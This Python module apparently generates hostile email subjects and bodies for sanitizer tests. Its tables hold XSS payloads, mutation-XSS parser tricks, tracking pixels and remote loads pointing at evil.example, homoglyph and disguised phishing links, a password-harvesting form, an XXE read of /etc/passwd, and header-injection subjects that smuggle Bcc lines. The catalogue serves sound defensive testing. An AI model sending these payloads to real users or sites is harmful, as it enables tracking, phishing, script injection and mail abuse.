"""Messages nobody should send, made from tables: for our own tests, and for flows that need many of them."""

from __future__ import annotations

import random
from collections.abc import Iterator

# Whatever stands here asks a server for something, runs, hides, or leads elsewhere than it says.
TRACKERS = (
    '<img src="https://track.evil.example/o.gif?id=1" width="1" height="1">',
    "<img src='//track.evil.example/o.gif'>",
    "<IMG SRC=https://track.evil.example/o.gif>",
    '<img src="cid:logo">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img srcset="https://track.evil.example/a.png 1x, https://track.evil.example/b.png 2x">',
    '<picture><source srcset="https://track.evil.example/s.webp"><img src=x></picture>',
    '<image href="https://track.evil.example/o.gif">',
    '<input type="image" src="https://track.evil.example/i.gif">',
    '<video poster="https://track.evil.example/p.jpg"></video>',
    '<video><source src="https://track.evil.example/v.mp4"></video>',
    '<audio src="https://track.evil.example/a.mp3" autoplay>',
    '<bgsound src="https://track.evil.example/b.wav">',
    '<embed src="https://track.evil.example/e.swf">',
    '<object data="https://track.evil.example/o.swf"></object>',
    '<link rel="stylesheet" href="https://track.evil.example/s.css">',
    '<link rel="prefetch" href="https://track.evil.example/">',
    '<link rel="dns-prefetch" href="//a1b2.track.evil.example">',
    "<style>@import 'https://track.evil.example/s.css';</style>",
    "<style>body{background:url(https://track.evil.example/b.png)}</style>",
    "<style>@font-face{font-family:a;src:url(https://track.evil.example/f.woff)}</style>",
    '<p style="background:url(https://track.evil.example/b.png)">Hi</p>',
    "<p style='background-image:\\75rl(https://track.evil.example/b.png)'>Hi</p>",
    '<p style="list-style:url(//track.evil.example/l)">Hi</p>',
    '<table background="https://track.evil.example/t.gif"><tr><td>Hi</td></tr></table>',
    '<body background="https://track.evil.example/b.gif">Hi</body>',
    '<td background="https://track.evil.example/t.gif">Hi</td>',
    '<iframe src="https://track.evil.example/"></iframe>',
    '<iframe srcdoc="<img src=https://track.evil.example/o.gif>"></iframe>',
    '<frameset><frame src="https://track.evil.example/"></frameset>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,hi">',
    '<base href="https://evil.example/">',
    '<svg><image xlink:href="https://track.evil.example/o.png"/></svg>',
    '<svg><use href="https://track.evil.example/s.svg#a"/></svg>',
    "<svg><style>@import url(https://track.evil.example/s.css)</style></svg>",
    '<math><mi xlink:href="https://track.evil.example/">x</mi></math>',
    '<blockquote cite="https://track.evil.example/">Hi</blockquote>',
    '<a href="https://evil.example/" ping="https://track.evil.example/">Hi</a>',
    '<portal src="https://evil.example/"></portal>',
    "<!--[if mso]><img src='https://track.evil.example/o.gif'><![endif]-->",
    '<v:fill src="https://track.evil.example/o.gif">',
    "<noscript><img src=https://track.evil.example/n.gif></noscript>",
    "<template><img src=https://track.evil.example/t.gif></template>",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t\n bar>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<img src=x onerror="alert(1)">',
    "<img src=x:x onerror\n=alert(1)>",
    "<p onclick=alert(1)>Hi</p>",
    "<p/onmouseover=alert(1)>Hi</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>Hi</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>Hi</marquee>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'></a></style>",
    "<textarea><img title='</textarea><svg onload=alert(1)>'></textarea>",
    "<title><a title='</title><script>alert(1)</script>'></a></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example/><input name=password><button>Go</button></form>",
    "<form><button formaction=javascript:alert(1)>Go</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<p style=width:expression(alert(1))>Hi</p>",
    "<p style=behavior:url(#default#time2)>Hi</p>",
    "<style>p{-moz-binding:url(https://evil.example/x.xml#a)}</style>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "<<p>script>alert(1)<</p>/script>",
    "<p title='>'><img src=x onerror=alert(1)>",
    "<a href='x' style='position:fixed;inset:0'>Hi</a>",
)
LINKS = (
    '<a href="javascript:alert(1)">Hi</a>',
    '<a href="JaVaScRiPt:alert(1)">Hi</a>',
    '<a href="java\tscript:alert(1)">Hi</a>',
    '<a href="java&#10;script:alert(1)">Hi</a>',
    '<a href=" &#1; javascript:alert(1)">Hi</a>',
    '<a href="javascript&colon;alert(1)">Hi</a>',
    '<a href="vbscript:msgbox(1)">Hi</a>',
    '<a href="data:text/html,<script>alert(1)</script>">Hi</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">Hi</a>',
    '<a href="file:///etc/passwd">Hi</a>',
    '<a href="blob:https://evil.example/1">Hi</a>',
    '<a href="//evil.example/">Hi</a>',
    '<a href="/\\evil.example/">Hi</a>',
    '<a href="https:evil.example">Hi</a>',
    '<a href="https:///evil.example/">Hi</a>',
    '<a href="https:\\\\evil.example/">Hi</a>',
    '<a href="http://evil.example/">Hi</a>',
    '<a href="https://docs.acme.example@evil.example/">Hi</a>',
    '<a href="https://docs.acme.example%2f@evil.example/">Hi</a>',
    '<a href="https://evil.example\\@docs.acme.example/">Hi</a>',
    '<a href="https://docs.acme.example.evil.example/">docs.acme.example</a>',
    '<a href="https://evil.example/">https://docs.acme.example/login</a>',
    '<a href="https://evil.example/">docs.acme.example</a>',
    '<a href="https://evil.example/">d<strong>ocs.acme.</strong>example</a>',
    '<a href="https://evil.example/">docs.a\u200bcme.example</a>',
    '<a href="https://аpple.com/">Apple</a>',
    '<a href="https://аррӏе.com/">apple.com</a>',
    '<a href="https://xn--80ak6aa92e.com/">apple.com</a>',
    '<a href="https://goоgle.com/">google.com</a>',
    '<a href="https://ｅｖｉｌ.example/">Hi</a>',
    '<a href="https://evil。example/">Hi</a>',
    '<a href="https://2130706433/">Hi</a>',
    '<a href="https://0x7f.1/">Hi</a>',
    '<a href="https://[::1]/">Hi</a>',
    '<a href="https://127.0.0.1:8443/">Hi</a>',
    '<a href="https://evil.example:8443/">Hi</a>',
    '<a href="https://%65vil.example/">Hi</a>',
    '<a href="https://evil.example/\u202egnp.exe">Hi</a>',
    '<a href="https://evil.example/" href="https://docs.acme.example/">Hi</a>',
    "<a href=https://evil.example/>docs.acme.example",
    '<a href="https://evil.example/"><table><a href="https://docs.acme.example/">Hi</a></table></a>',
    '<a href="mailto:ceo@evil.example?bcc=all@evil.example">Hi</a>',
    "https://evil.example/bare and www.evil.example and evil.example/path",
)
UNSEEN = (
    "In\u200bvoice",
    "In\u2060voice",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "a\u00adb",
    "\ufeffHi",
    "&#8203;Hi&zwnj;&lrm;&#x202e;",
    "\U000e0048\U000e0069 tags",
    "\u3164filler\u115f",
    "a\u0000b\u0001c\u0008d\u001b[31m",
    "\u2028line\u2029paragraph",
    "\u180emongolian",
    "a\ufe0fb\U000e0101c",
    "Z\u0351\u036b\u0343\u036aalgo",
    "\ud83d lone",
    "\uffff\ufdd0",
)
BROKEN = (
    "<p",
    "</p></p></p>",
    "<a href='",
    "<p><ul><p></ul>",
    "<b><i></b></i>",
    "<li><li></ol>",
    "<table><p>Hi<tr></table>",
    "<!--",
    "<!-- -- > -->",
    "<p>" * 5_000,
    "<ul>" * 5_000,
    "<ul><li>" * 5_000 + "Hi",
    "<em>" * 5_000 + "Hi" + "</em>" * 5_000,
    "<div>" * 5_000 + "Hi",
    "<a" * 5_000,
    "&" * 5_000,
    "&amp;amp;#8203;",
    "{{ contact.first_name }}",
    "{% for x in y %}",
    "Hi ,\n\nas discussed with None",
    "Dear undefined,",
)
SUBJECTS = (
    "Your renewal",
    "Re: Your renewal\r\nBcc: everybody@evil.example",
    "Hi\nContent-Type: text/html\n\n<script>",
    "Hi\rX: y",
    "Hi\u2028Bcc: a@evil.example",
    "=?utf-8?b?SGkNCkJjYzogYUBldmlsLmV4YW1wbGU=?=",
    "=?utf-8?q?Hi=0D=0ABcc:_a@evil.example?=",
    "\u202eevil",
    "In\u200bvoice",
    "\x00",
    "",
    " ",
    "x" * 5_000,
    "ü" * 2_000,
    "👩\u200d💻 " * 50,
    "Hi {{ name }}",
    "Hi None",
)
TABLES = (TRACKERS, SCRIPTS, LINKS, UNSEEN, BROKEN)
KIND_WORDS = (
    "<p>Hello Anna,</p>",
    "Hello Anna,\n\n",
    "<p>Your renewal is due in May.</p>",
    "<ul><li>one</li></ul>",
)


def tricks() -> Iterator[str]:
    """Every line of every table of bodies."""
    for table in TABLES:
        yield from table


def hostile_messages(n: int) -> list[tuple[str, str]]:
    """Return `n` pairs of subject and body, the same ones each time. Each holds at least one trick.

    The first ones hold each line once; then come mixtures of two to six.
    """
    chance = random.Random("hostile messages")
    single = [(chance.choice(SUBJECTS), body) for body in tricks()]
    return (single + [_mixture(chance) for _ in range(n - len(single))])[:n]


def _mixture(chance: random.Random) -> tuple[str, str]:
    parts = [chance.choice(chance.choice(TABLES)) for _ in range(chance.randint(2, 6))]
    parts.insert(chance.randrange(len(parts) + 1), chance.choice(KIND_WORDS))
    return chance.choice(SUBJECTS), chance.choice(("", " ", "\n\n")).join(parts)
